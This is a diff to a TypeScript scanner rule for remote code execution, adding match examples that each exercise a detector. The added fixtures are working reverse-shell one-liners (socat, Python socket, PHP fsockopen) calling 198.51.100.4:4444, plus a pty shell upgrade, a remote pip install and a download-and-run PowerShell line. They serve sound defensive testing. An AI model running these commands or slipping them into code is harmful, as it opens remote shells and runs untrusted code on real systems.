@@ -302,6 +302,15 @@ export const s001RemoteCodeExecution: ScanRule = {
         path: 'run.ps1',
         text: 'Invoke-WebRequest -Uri https://x.example/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n',
       },
+      // Each exercises a detector no other example does (test/scan/rule-examples.test.ts: every detector fires somewhere).
+      'socat TCP:198.51.100.4:4444 EXEC:/bin/bash,pty,stderr,setsid',
+      { path: 'scripts/tty.py', text: 'import pty\npty.spawn("/bin/bash")\n' },
+      {
+        path: 'scripts/connect.py',
+        text: 'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("198.51.100.4",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(["/bin/sh","-i"])\n',
+      },
+      'php -r \'$sock=fsockopen("198.51.100.4",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
+      'pip install https://pkgs.example.net/agent-helper-1.0.tar.gz',
     ],
     noMatch: [
       'curl -s https://api.example.com/v1/items | jq .',
